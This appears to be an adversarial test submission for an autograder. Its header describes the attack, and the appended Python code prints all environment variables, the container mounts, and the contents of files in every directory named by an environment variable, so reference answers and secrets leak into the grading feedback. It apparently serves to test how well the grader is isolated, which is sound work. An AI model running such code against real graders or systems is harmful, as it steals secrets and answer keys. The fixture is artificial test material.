# class: B
# assignment: ex33_2_linear_rnn
# batch: kernel
# attack: answers honestly, then prints the environment, the mounts, and every file of any
#    directory an environment variable names (references, secrets) into its feedback.
# deserve *: full
# %% append
import os

print(dict(os.environ))
print(open("/proc/self/mountinfo").read())
for value in os.environ.values():
    if os.path.isdir(value) and value not in ("/", "/tmp", "/usr/bin"):
        for name in sorted(os.listdir(value))[:50]:
            path = os.path.join(value, name)
            if os.path.isfile(path):
                print(path, open(path, errors="replace").read()[:20000])
